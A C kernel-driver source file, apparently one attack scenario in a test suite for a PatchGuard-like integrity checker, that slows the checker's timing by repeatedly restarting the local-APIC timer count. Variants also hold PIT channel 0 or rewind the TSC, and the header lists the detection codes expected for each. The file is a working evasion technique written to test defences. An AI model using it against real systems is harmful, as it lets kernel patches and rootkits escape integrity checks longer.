/* attack_a62_dilate (A62): slow the tick without changing any register
 * PatchGuard compares. Writing the local-APIC timer's initial count
 * restarts its count-down, even with the value it already holds: from a
 * periodic timer of its own (a DPC after every tick, interrupts enabled),
 * the driver waits until the count is about to run out and writes the
 * same initial count again, STRETCH times, so a tick comes every
 * STRETCH + 1 periods. Every register, handler and mode stays as armed;
 * PatchGuard's windows tolerate a tick 8 times slower than its rate, so
 * the default stretch is 6 (time, and every pass with it, runs at a sixth
 * of its speed). It patches nothing itself: any patch made
 * meanwhile (the scenarios load attack_a1) is found that much later.
 *
 * Variants (the driver's arguments):
 *  - `tsc`: a stretch of 40, and the TSC held back with WRMSR (IA32_TSC)
 *    while the driver waits, so it advances about one tick period per
 *    tick: the tick hook's window sees ticks keep pace with the TSC, and
 *    the PIT watchdog's stall count, when it measured half a PIT period
 *    by the TSC, never started;
 *  - `pit`: PIT channel 0 (the watchdog's interrupt and the NMI) restarted
 *    the same way (control word and the same count again) whenever it is
 *    about to run out while the driver waits, and the tick left alone:
 *    the watchdog and the NMI slowed, the tick not;
 *  - `both`: the tick and PIT channel 0 both stretched by 6, so ticks and
 *    PIT periods keep their ratio; only the TSC and the PM timer still run
 *    at speed.
 * Expected: `tsc`: 0x109 type 0x101 (the watchdog's stall count, spaced by
 * the ACPI PM timer, which no instruction sets) or 0x17 (ticks against
 * the PM timer); `pit`: 0x101 or 0x17 (the watchdog's and the NMI's
 * heartbeats); the default and `both`: by design, nothing for the stretch
 * itself, and a patch made meanwhile found up to six times later. */
#include "attack_pg.h"

#define LAPIC_TIMER_INIT (0x380 / 4)
#define LAPIC_TIMER_CUR (0x390 / 4)
#define PIT_CH0 0x40
#define PIT_CMD 0x43
#define PIT_LATCH_CH0 0x00
#define PIT_CH0_MODE2 0x34
#define MSR_TSC 0x10

static struct ktimer dilator;
static struct dpc dilator_dpc;
static volatile uint32_t *lapic;
static uint32_t lapic_init, lapic_margin, pit_count, pit_margin;
static int stretch;
static bool do_pit, do_tsc;
static uint64_t held; /* the TSC as the driver lets it run */

static inline uint64_t rdtsc_now(void)
{
	uint32_t lo, hi;
	__asm__ volatile("rdtsc" : "=a"(lo), "=d"(hi));
	return ((uint64_t)hi << 32) | lo;
}

static uint32_t pit_read(void)
{
	a_outb(PIT_CMD, PIT_LATCH_CH0);
	uint32_t lo = a_inb(PIT_CH0);
	uint32_t hi = a_inb(PIT_CH0);
	uint32_t v = lo | hi << 8;
	return v ? v : 65536;
}

/* PIT channel 0 about to reach the end of its period: start it again. */
static void pit_hold(void)
{
	uint64_t f = a_cli();
	if (pit_read() < pit_margin) {
		a_outb(PIT_CMD, PIT_CH0_MODE2);
		a_outb(PIT_CH0, pit_count & 0xFF);
		a_outb(PIT_CH0, (pit_count >> 8) & 0xFF);
	}
	a_restore(f);
}

static void tsc_hold(void)
{
	held += 64;
	a_wrmsr(MSR_TSC, held);
}

/* One tick's worth of waiting: the tick's count restarted just before it
 * runs out, PIT channel 0 and the TSC held meanwhile. */
static void dilate(struct dpc *d, void *ctx)
{
	__asm__ volatile("sti" ::: "memory");
	if (do_tsc)
		held = rdtsc_now();
	for (int i = 0; i < stretch; i++) {
		for (;;) {
			if (do_pit)
				pit_hold();
			if (do_tsc)
				tsc_hold();
			uint64_t f = a_cli();
			if (lapic[LAPIC_TIMER_CUR] < lapic_margin) {
				lapic[LAPIC_TIMER_INIT] = lapic_init;
				a_restore(f);
				break;
			}
			a_restore(f);
		}
	}
}

static void dilate_pit_only(struct dpc *d, void *ctx)
{
	__asm__ volatile("sti" ::: "memory");
	/* PIT channel 0 held for most of every tick period: the tick runs. */
	while (lapic[LAPIC_TIMER_CUR] > lapic_margin)
		pit_hold();
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	struct pg_state *state = a_find_pg();
	lapic = a_find_lapic();
	if (!state || !lapic) {
		printk("attack_a62: PatchGuard's state or the local APIC not found\n");
		a_restore(pf);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	lapic_init = lapic[LAPIC_TIMER_INIT];
	lapic_margin = lapic_init / 32;
	pit_count = state->pit_count;
	pit_margin = pit_count / 16;
	stretch = 5;
	const char *what;
	void (*fn)(struct dpc *, void *) = dilate;
	if (!strcmp(drv->args, "tsc")) {
		stretch = 39;
		do_tsc = true;
		what = "tick stretched by 40, TSC held back";
	} else if (!strcmp(drv->args, "pit")) {
		do_pit = true;
		fn = dilate_pit_only;
		what = "PIT channel 0 held while the tick runs";
	} else if (!strcmp(drv->args, "both")) {
		do_pit = true;
		what = "tick and PIT channel 0 stretched by 6";
	} else {
		what = "tick stretched by 6";
	}
	dpc_init(&dilator_dpc, fn, NULL);
	timer_init(&dilator, &dilator_dpc);
	timer_set(&dilator, NSEC_PER_TICK, NSEC_PER_TICK);
	printk("attack_a62: %s\n", what);
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
